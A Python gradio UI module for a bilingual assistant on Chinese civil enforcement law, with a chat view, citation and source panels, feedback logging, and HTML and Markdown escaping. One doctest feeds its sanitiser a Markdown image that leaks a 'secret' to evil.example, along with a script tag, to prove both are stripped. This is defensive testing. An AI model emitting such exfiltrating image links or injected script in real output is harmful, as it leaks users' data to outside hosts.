"""Web chat (gradio). It receives the same AssistantService as the API; callbacks only call it and format.

Everything the user typed or the service wrote reaches the page escaped: chat messages have ``<`` escaped
before gradio's Markdown renderer sees them, and the citation and source panels are built with
``html.escape`` around every piece of text.
"""

from __future__ import annotations

import html
import re
import time
from dataclasses import asdict
from typing import Any

import gradio as gr

from assistant.audit import AuditLog
from assistant.retrieve import QueryError

TEXT: dict[str, dict[str, str]] = {
    "zh": {
        "title": "执行法律助手",
        "subtitle": "民事执行法律问答：执行和解及其救济、执行回转。每个引用都经过条文核验。",
        "notice": "**本助手提供的是法律信息，不是法律意见。** 回答依据收录的法律和司法解释自动生成，可能不完整；"
                  "具体案件请咨询律师或法院。请勿输入身份证号、电话、银行卡号等个人信息（记录时会被自动隐去）。",
        "chat": "对话", "placeholder": "在下方输入问题，或点选示例问题。",
        "question": "您的问题", "question_ph": "例如：被执行人不履行执行和解协议，申请执行人怎么办？",
        "send": "发送", "clear": "新对话", "examples": "示例问题",
        "citations": "本回答引用的条文", "no_citations": "本回答没有引用具体条文。",
        "sources": "来源（条文全文，回答所依据的部分已标出）", "no_sources": "提问后，这里显示回答所依据的条文全文。",
        "feedback": "反馈", "rating": "这个回答有帮助吗？", "helpful": "有帮助", "not_helpful": "没帮助",
        "comment": "补充意见（可选）", "comment_ph": "哪里有用，哪里不对？", "submit": "提交反馈",
        "thanks": "已记录，谢谢您的反馈。", "no_answer": "请先提问，再对回答反馈。", "pick": "请先选择“有帮助”或“没帮助”。",
        "thinking": "正在检索法条并撰写回答…", "failed": "抱歉，回答时出错了，请稍后再试。",
        "current": "现行第{n}条", "in_force": "现行有效", "superseded": "已被修订", "draft": "草案",
        "note": "评注",
        "check": "核验一段文字中的法条引用", "check_text": "粘贴任何引用了法条的文字",
        "check_ph": "例如：根据《民事诉讼法》第二百三十三条，执行依据被撤销的，应当执行回转。", "check_btn": "核验",
        "check_none": "没有找到法条引用。", "check_summary": "共 {n} 处引用：{counts}",
    },
    "en": {
        "title": "Enforcement law assistant",
        "subtitle": "Questions on Chinese civil enforcement law: enforcement settlements and their remedies, "
                    "enforcement reversal. Every citation is checked against the statute.",
        "notice": "**This is legal information, not legal advice.** Answers are generated from the statutes and "
                  "judicial interpretations in the corpus and may be incomplete; for your case consult a lawyer or "
                  "the court. Do not enter ID-card, phone or bank card numbers (they are redacted from the log).",
        "chat": "Conversation", "placeholder": "Type a question below, or pick an example.",
        "question": "Your question", "question_ph": "e.g. The debtor did not perform the settlement agreement — what can the creditor do?",
        "send": "Send", "clear": "New conversation", "examples": "Example questions",
        "citations": "Provisions cited in this answer", "no_citations": "This answer cites no specific provision.",
        "sources": "Sources (full text; the parts the answer relies on are highlighted)",
        "no_sources": "After you ask, the full text of the provisions behind the answer appears here.",
        "feedback": "Feedback", "rating": "Was this answer helpful?", "helpful": "Helpful", "not_helpful": "Not helpful",
        "comment": "Comment (optional)", "comment_ph": "What helped, what was wrong?", "submit": "Send feedback",
        "thanks": "Recorded — thank you.", "no_answer": "Ask a question first, then rate the answer.",
        "pick": "Choose “Helpful” or “Not helpful” first.",
        "thinking": "Searching the statutes and writing an answer…", "failed": "Sorry, something went wrong; please try again.",
        "current": "now art. {n}", "in_force": "in force", "superseded": "superseded", "draft": "draft",
        "note": "commentary",
        "check": "Check the citations in a text", "check_text": "Paste any text that cites Chinese law",
        "check_ph": "e.g. 根据《民事诉讼法》第二百三十三条，执行依据被撤销的，应当执行回转。", "check_btn": "Check",
        "check_none": "No citations of law found.", "check_summary": "{n} citation(s): {counts}",
    },
}

EXAMPLES: dict[str, list[str]] = {
    "zh": [
        "达成执行和解协议后，被执行人不履行，申请执行人可以怎么办？",
        "执行和解协议履行完毕后，申请执行人又申请恢复执行，被执行人如何救济？",
        "据以执行的判决被撤销后，已经执行的财产怎么办？",
        "执行回转应当由哪个法院裁定？",
    ],
    "en": [
        "The debtor did not perform the enforcement settlement agreement. What can the creditor do?",
        "After the settlement was fully performed, the creditor applied to resume enforcement. What can the debtor do?",
        "The judgment that was enforced has been set aside. What happens to the property already enforced?",
        "Which court rules on enforcement reversal?",
    ],
}

VERDICTS: dict[str, dict[str, tuple[str, str]]] = {
    "zh": {"valid": ("✓", "已核验"), "outdated_numbering": ("⚠", "旧条文序号"), "not_in_force": ("⚠", "已失效"),
           "unsupported": ("?", "内容未获条文支持"), "unknown_law": ("✗", "未知法律"),
           "nonexistent_article": ("✗", "条文不存在")},
    "en": {"valid": ("✓", "verified"), "outdated_numbering": ("⚠", "old numbering"), "not_in_force": ("⚠", "not in force"),
           "unsupported": ("?", "not supported by the text"), "unknown_law": ("✗", "unknown law"),
           "nonexistent_article": ("✗", "no such article")},
}

CSS = """
#ea-header h1 { margin: 0 0 2px; font-size: 1.5rem; }
#ea-header p { margin: 0; color: var(--body-text-color-subdued); }
#ea-notice { border-left: 4px solid #f59e0b; background: #fffbeb; color: #78350f; padding: 8px 12px; border-radius: 6px; }
#ea-notice p { margin: 0; }
.ea-panel-label { font-weight: 600; margin: 4px 0 6px; }
.ea-chips { display: flex; flex-wrap: wrap; gap: 6px; align-items: flex-start; }
details.ea-chip { border: 1px solid; border-radius: 14px; padding: 2px 10px; font-size: 13px; max-width: 100%; }
details.ea-chip > summary { cursor: pointer; list-style: none; }
details.ea-chip > summary::-webkit-details-marker { display: none; }
details.ea-chip[open] { border-radius: 8px; }
.ea-chip .ea-msg { padding: 4px 0 2px; color: #374151; }
.ea-chip.v-valid { color: #166534; border-color: #86efac; background: #f0fdf4; }
.ea-chip.v-outdated_numbering, .ea-chip.v-not_in_force, .ea-chip.v-unsupported { color: #92400e; border-color: #fcd34d; background: #fffbeb; }
.ea-chip.v-unknown_law, .ea-chip.v-nonexistent_article { color: #991b1b; border-color: #fca5a5; background: #fef2f2; }
.ea-sources details.ea-source { border: 1px solid #e5e7eb; border-radius: 8px; padding: 6px 10px; margin: 0 0 6px; }
.ea-sources summary { cursor: pointer; font-weight: 600; }
.ea-sources .ea-meta { font-weight: 400; color: #6b7280; font-size: 12px; }
.ea-source-text { white-space: pre-wrap; line-height: 1.7; margin-top: 6px; overflow-wrap: anywhere; }
mark.ea-hl { background: #fde68a; padding: 0 1px; }
.ea-empty { color: #6b7280; font-size: 13px; }
.ea-check-text { white-space: pre-wrap; line-height: 1.8; }
mark.cite { padding: 0 2px; border-radius: 3px; }
mark.cite-valid { background: #dcfce7; }
mark.cite-outdated_numbering, mark.cite-not_in_force, mark.cite-unsupported { background: #fef3c7; }
mark.cite-unknown_law, mark.cite-nonexistent_article { background: #fee2e2; }
.ea-check-list { margin: 8px 0 0; padding-left: 18px; font-size: 13px; }
#ea-lang .wrap { flex-wrap: nowrap; justify-content: flex-end; gap: 6px; }
#ea-lang label { padding: 4px 10px; }
#ea-examples button { white-space: normal; text-align: left; height: auto; }
@media (max-width: 480px) {
  .gradio-container { padding-left: 6px !important; padding-right: 6px !important; }
  #ea-header h1 { font-size: 1.2rem; }
}
"""


_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\s?(?:\([^)\n]{0,2000}\)|\[[^\]\n]{0,200}\])")
_MD_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+[\"'(][^)\n]{0,300})?\s*\)")
_MD_REF_DEF = re.compile(r"^ {0,3}\[[^\]\n]{1,200}\]:\s*\S+.*$", re.MULTILINE)
_BARE_URL = re.compile(r"\b((?:https?|ftp)):(//[^\s)\]]+)|\bwww\.", re.IGNORECASE)


def _allowed_link(url: str, allowed_hosts: tuple[str, ...]) -> bool:
    """Relative links (this site) and links to the allowlisted hosts; nothing else becomes clickable."""
    from urllib.parse import urlsplit

    if url.startswith(("/", "#")) and not url.startswith("//"):
        return True
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    return parts.scheme in ("http", "https") and (parts.hostname or "") in allowed_hosts


def _escape_md(text: str, allowed_hosts: tuple[str, ...] = ()) -> str:
    """Chat text for gradio's Markdown renderer. No raw HTML survives (``<`` becomes ``&lt;``); no image is
    fetched (``![alt](url)`` shows its alt text: a remote image would leak through its URL the moment the
    page renders); a link stays a link only to this site or an allowlisted host, otherwise its text shows;
    bare URLs of other hosts are not auto-linked.

    >>> _escape_md('见![x](https://evil.example/p?q=秘密)与[条文](https://evil.example/a)和<script>')
    '见x与条文和&lt;script>'
    """
    text = (text or "").replace("<", "&lt;")
    text = _MD_IMAGE.sub(lambda m: m.group(1), text)
    text = _MD_REF_DEF.sub("", text)  # [ref]: url definitions would turn [ref] into a link

    def link(m: re.Match) -> str:
        return m.group(0) if _allowed_link(m.group(2), allowed_hosts) else m.group(1)

    text = _MD_LINK.sub(link, text)

    def bare(m: re.Match) -> str:
        if m.group(1) and _allowed_link(f"{m.group(1)}:{m.group(2)}", allowed_hosts):
            return m.group(0)
        return f"{m.group(1)}\\:{m.group(2)}" if m.group(1) else "www\\."  # an escaped colon or dot: no autolink

    return _BARE_URL.sub(bare, text)


def _e(text: Any) -> str:
    return html.escape("" if text is None else str(text), quote=True)


def citations_html(answer: dict | None, lang: str) -> str:
    t = TEXT[lang]
    if answer is None:
        return ""
    label = f'<div class="ea-panel-label">{_e(t["citations"])}</div>'
    if not answer.get("citations"):
        return f'<div class="ea-citations">{label}<div class="ea-empty">{_e(t["no_citations"])}</div></div>'
    chips, seen = [], set()
    for c in answer["citations"]:
        verdict = str(c.get("verdict"))
        if (c.get("surface"), verdict) in seen:  # one chip per provision and verdict
            continue
        seen.add((c.get("surface"), verdict))
        icon, name = VERDICTS[lang].get(verdict, ("•", verdict))
        if verdict == "outdated_numbering" and c.get("current_article"):
            name += " · " + t["current"].format(n=c["current_article"])
        cls = "v-" + "".join(ch for ch in verdict if ch.isalpha() or ch == "_")
        chips.append(f'<details class="ea-chip {cls}" data-verdict="{_e(verdict)}"><summary>{_e(c.get("surface"))} '
                     f'<span class="ea-verdict">{_e(icon)} {_e(name)}</span></summary>'
                     f'<div class="ea-msg">{_e(c.get("message"))}</div></details>')
    return f'<div class="ea-citations" data-answer-id="{_e(answer.get("id"))}">{label}<div class="ea-chips">{"".join(chips)}</div></div>'


def _highlighted(text: str, spans) -> str:
    out, pos = [], 0
    for start, end in sorted((int(s), int(e)) for s, e in spans or ()):
        start, end = max(start, pos), min(end, len(text))
        if end <= start:
            continue
        out.append(_e(text[pos:start]))
        out.append(f'<mark class="ea-hl">{_e(text[start:end])}</mark>')
        pos = end
    out.append(_e(text[pos:]))
    return "".join(out)


def sources_html(answer: dict | None, lang: str) -> str:
    t = TEXT[lang]
    if answer is None or not answer.get("sources"):
        return f'<div class="ea-sources"><div class="ea-empty">{_e(t["no_sources"])}</div></div>'
    cited = {(c.get("law_id"), c.get("current_article") or c.get("article")) for c in answer.get("citations") or ()}

    def rank(s: dict) -> int:  # what the answer relies on first, then the articles it cites, then the rest
        if s.get("highlights"):
            return 0
        if s.get("kind") == "article":
            return 1 if (s.get("law_id"), s.get("article")) in cited else 2
        return 3

    items = []
    for s in sorted(answer["sources"], key=rank):
        meta = [s.get("version") or "", t.get(s.get("status") or "", s.get("status") or "")]
        if s.get("kind") == "note":
            meta = [t["note"]]
        meta_text = " · ".join(m for m in meta if m)
        items.append(f'<details class="ea-source" data-doc-id="{_e(s.get("doc_id"))}"><summary>{_e(s.get("title"))} '
                     f'<span class="ea-meta">{_e(meta_text)}</span></summary>'
                     f'<div class="ea-source-text">{_highlighted(s.get("text") or "", s.get("highlights"))}</div></details>')
    return f'<div class="ea-sources" data-answer-id="{_e(answer.get("id"))}">{"".join(items)}</div>'


def check_html(report: dict | None, annotated: str, lang: str) -> str:
    """The guard's report on a pasted text: the text with each citation marked, then one line per citation."""
    t = TEXT[lang]
    if report is None:
        return ""
    if not report["citations"]:
        return f'<div class="ea-empty">{_e(t["check_none"])}</div>'
    counts = "，".join(f"{VERDICTS[lang].get(v, ('', v))[1]} {n}" for v, n in report["counts"].items() if n)
    lines = []
    for c in report["citations"]:
        icon, name = VERDICTS[lang].get(c["verdict"], ("•", c["verdict"]))
        lines.append(f'<li data-verdict="{_e(c["verdict"])}"><b>{_e(c["text"])}</b> {_e(icon)} {_e(name)}：'
                     f'{_e(c["message"])}</li>')
    summary = t["check_summary"].format(n=len(report["citations"]), counts=counts)
    # ``annotated`` comes from the guard's annotate_html, which escapes the text and every attribute
    return (f'<div class="ea-check"><div class="ea-panel-label">{_e(summary)}</div>'
            f'<div class="ea-check-text">{annotated}</div><ul class="ea-check-list">{"".join(lines)}</ul></div>')


def _chat(turns: list[dict], lang: str, allowed_hosts: tuple[str, ...] = ()) -> list[dict]:
    messages = []
    for turn in turns:
        messages.append({"role": "user", "content": _escape_md(turn["q"], allowed_hosts)})
        if turn.get("answer") is not None:
            content = turn["answer"]["text"]
        elif turn.get("error"):
            content = "⚠️ " + turn["error"]
        else:
            content = turn.get("partial") or TEXT[lang]["thinking"]
        messages.append({"role": "assistant", "content": _escape_md(content, allowed_hosts)})
    return messages


def _history(turns: list[dict]) -> list[dict]:
    out = []
    for turn in turns:
        if turn.get("answer") is not None:
            out += [{"role": "user", "content": turn["q"]}, {"role": "assistant", "content": turn["answer"]["text"]}]
    return out


def build_ui(service, *, audit: AuditLog | None = None) -> gr.Blocks:
    """The chat page; mount it on the API app with :func:`mount_ui`."""
    audit = audit if audit is not None else AuditLog.from_settings(service.settings)
    links = tuple(service.settings.link_allowlist)  # hosts an answer's links may point to
    zh = TEXT["zh"]

    def respond(question: str, turns: list[dict], lang: str):
        lang = lang if lang in TEXT else "zh"
        question = (question or "").strip()
        if not question:
            yield gr.skip(), gr.skip(), gr.skip(), gr.skip(), gr.skip(), gr.skip()
            return
        turns = [dict(t) for t in turns or []] + [{"q": question, "partial": "", "answer": None, "error": None}]
        shown = len(turns) - 1
        yield _chat(turns, lang, links), turns, "", "", sources_html(None, lang), shown
        history = _history(turns[:-1])
        t0 = time.perf_counter()
        try:
            for ev in service.ask_stream(question, history):
                kind = ev.get("type")
                if kind == "delta":
                    turns[-1]["partial"] += ev.get("text", "")
                    yield _chat(turns, lang, links), gr.skip(), gr.skip(), gr.skip(), gr.skip(), gr.skip()
                elif kind == "reset":
                    turns[-1]["partial"] = ""
                elif kind == "final":
                    answer = ev["answer"]
                    audit.log_exchange(answer, channel="ui", total_ms=(time.perf_counter() - t0) * 1000)
                    turns[-1]["answer"] = asdict(answer)
        except QueryError as exc:
            turns[-1]["error"] = str(exc)
            audit.log_error(question, channel="ui", error=f"bad_query: {exc}", total_ms=(time.perf_counter() - t0) * 1000)
        except Exception as exc:  # shown to the user as a message, logged without details
            turns[-1]["error"] = TEXT[lang]["failed"]
            audit.log_error(question, channel="ui", error=f"internal_error: {type(exc).__name__}",
                            total_ms=(time.perf_counter() - t0) * 1000)
        answer = turns[-1]["answer"]
        yield _chat(turns, lang, links), turns, "", citations_html(answer, lang), sources_html(answer, lang), shown

    def select_answer(turns: list[dict], lang: str, evt: gr.SelectData):
        index = evt.index if isinstance(evt.index, int) else evt.index[0]
        i = index // 2
        if not turns or i >= len(turns) or turns[i].get("answer") is None:
            return gr.skip(), gr.skip(), gr.skip()
        answer = turns[i]["answer"]
        return citations_html(answer, lang), sources_html(answer, lang), i

    def like(turns: list[dict], lang: str, evt: gr.LikeData):
        index = evt.index if isinstance(evt.index, int) else evt.index[0]
        i = index // 2
        if not turns or i >= len(turns) or turns[i].get("answer") is None:
            return gr.skip()
        rating = "helpful" if evt.liked is True or evt.liked == "Like" else "not_helpful"
        audit.log_feedback(turns[i]["answer"]["id"], rating, None, channel="ui")
        return TEXT[lang]["thanks"]

    def send_feedback(turns: list[dict], shown: int | None, rating: str | None, comment: str, lang: str):
        t = TEXT[lang]
        if not turns or shown is None or shown >= len(turns) or turns[shown].get("answer") is None:
            return t["no_answer"], gr.skip(), gr.skip()
        if rating not in ("helpful", "not_helpful"):
            return t["pick"], gr.skip(), gr.skip()
        audit.log_feedback(turns[shown]["answer"]["id"], rating, (comment or "")[:2000], channel="ui")
        return t["thanks"], None, ""

    def switch(lang: str, turns: list[dict], shown: int | None):
        lang = lang if lang in TEXT else "zh"
        t = TEXT[lang]
        answer = turns[shown]["answer"] if turns and shown is not None and shown < len(turns) else None
        updates = [
            header_md(lang), gr.update(value=t["notice"]),
            gr.update(label=t["chat"], placeholder=t["placeholder"], value=_chat(turns or [], lang, links)),
            gr.update(label=t["question"], placeholder=t["question_ph"]), gr.update(value=t["send"]),
            gr.update(value=t["clear"]), gr.update(value=f"**{t['examples']}**"),
            *[gr.update(value=q) for q in EXAMPLES[lang]],
            gr.update(label=t["sources"]), gr.update(label=t["feedback"]),
            gr.update(label=t["rating"], choices=[(t["helpful"], "helpful"), (t["not_helpful"], "not_helpful")]),
            gr.update(label=t["comment"], placeholder=t["comment_ph"]), gr.update(value=t["submit"]),
            citations_html(answer, lang), sources_html(answer, lang),
            gr.update(label=t["check"]), gr.update(label=t["check_text"], placeholder=t["check_ph"]),
            gr.update(value=t["check_btn"]),
        ]
        return updates

    def check_text(text: str, lang: str):
        lang = lang if lang in TEXT else "zh"
        if not (text or "").strip():
            return ""
        report = service.check(text[:50_000])
        return check_html(report.to_dict(), report.annotate_html(), lang)

    def clear(lang: str):
        return [], [], "", sources_html(None, lang), None, ""

    with gr.Blocks(title="执行法律助手 · Enforcement law assistant", analytics_enabled=False) as demo:
        turns = gr.State([])
        shown = gr.State(None)
        with gr.Row(equal_height=True):
            header = gr.HTML(header_md("zh"), elem_id="ea-header", scale=4, min_width=200)
            lang = gr.Radio([("中文", "zh"), ("English", "en")], value="zh", show_label=False, container=False,
                            elem_id="ea-lang", scale=1, min_width=150)
        notice = gr.Markdown(zh["notice"], elem_id="ea-notice")
        chatbot = gr.Chatbot(label=zh["chat"], placeholder=zh["placeholder"], elem_id="ea-chat", height="55vh",
                             min_height=260, buttons=["copy", "copy_all"], sanitize_html=True, render_markdown=True,
                             feedback_options=("Like", "Dislike"), layout="bubble", autoscroll=True)
        citations = gr.HTML("", elem_id="ea-citations")
        with gr.Row(equal_height=True):
            question = gr.Textbox(label=zh["question"], placeholder=zh["question_ph"], lines=2, max_lines=6,
                                  max_length=service.settings.max_question_chars, elem_id="ea-question", scale=5,
                                  min_width=180, show_label=False)
            send = gr.Button(zh["send"], variant="primary", elem_id="ea-send", scale=1, min_width=64)
        examples_label = gr.Markdown(f"**{zh['examples']}**")
        with gr.Row(elem_id="ea-examples"):
            example_buttons = [gr.Button(q, size="sm", min_width=150, elem_classes=["ea-example"],
                                         elem_id=f"ea-example-{i}") for i, q in enumerate(EXAMPLES["zh"])]
        with gr.Accordion(zh["sources"], open=True, elem_id="ea-sources-panel") as sources_panel:
            sources = gr.HTML(sources_html(None, "zh"), elem_id="ea-sources")
        with gr.Accordion(zh["feedback"], open=False, elem_id="ea-feedback") as feedback_panel:
            rating = gr.Radio([(zh["helpful"], "helpful"), (zh["not_helpful"], "not_helpful")], label=zh["rating"],
                              elem_id="ea-rating")
            comment = gr.Textbox(label=zh["comment"], placeholder=zh["comment_ph"], lines=2, max_length=2000,
                                 elem_id="ea-comment")
            feedback_btn = gr.Button(zh["submit"], elem_id="ea-feedback-send", size="sm")
            feedback_status = gr.Markdown("", elem_id="ea-feedback-status")
        with gr.Accordion(zh["check"], open=False, elem_id="ea-check") as check_panel:
            check_input = gr.Textbox(label=zh["check_text"], placeholder=zh["check_ph"], lines=3, max_lines=12,
                                     max_length=50_000, elem_id="ea-check-input")
            check_btn = gr.Button(zh["check_btn"], size="sm", elem_id="ea-check-send")
            check_out = gr.HTML("", elem_id="ea-check-result")
        clear_btn = gr.Button(zh["clear"], elem_id="ea-clear", size="sm")

        outputs = [chatbot, turns, question, citations, sources, shown]
        common = dict(api_visibility="private", concurrency_limit=8)
        send.click(respond, [question, turns, lang], outputs, **common)
        question.submit(respond, [question, turns, lang], outputs, **common)
        for b in example_buttons:
            b.click(respond, [b, turns, lang], outputs, **common)
        chatbot.select(select_answer, [turns, lang], [citations, sources, shown], api_visibility="private")
        chatbot.like(like, [turns, lang], [feedback_status], api_visibility="private")
        feedback_btn.click(send_feedback, [turns, shown, rating, comment, lang], [feedback_status, rating, comment],
                           api_visibility="private")
        lang.change(switch, [lang, turns, shown],
                    [header, notice, chatbot, question, send, clear_btn, examples_label, *example_buttons,
                     sources_panel, feedback_panel, rating, comment, feedback_btn, citations, sources,
                     check_panel, check_input, check_btn],
                    api_visibility="private")
        check_btn.click(check_text, [check_input, lang], [check_out], api_visibility="private", concurrency_limit=8)
        clear_btn.click(clear, [lang], [chatbot, turns, citations, sources, shown, feedback_status],
                        api_visibility="private")
    demo.queue(default_concurrency_limit=8)
    return demo


def header_md(lang: str) -> str:
    t = TEXT[lang]
    return f"<h1>{_e(t['title'])}</h1><p>{_e(t['subtitle'])}</p>"


def mount_ui(app, blocks: gr.Blocks, path: str = "/"):
    """Mount the chat on the FastAPI app (API routes defined before this keep precedence)."""
    return gr.mount_gradio_app(app, blocks, path=path, css=CSS, footer_links=[], run_history=False, show_error=False)
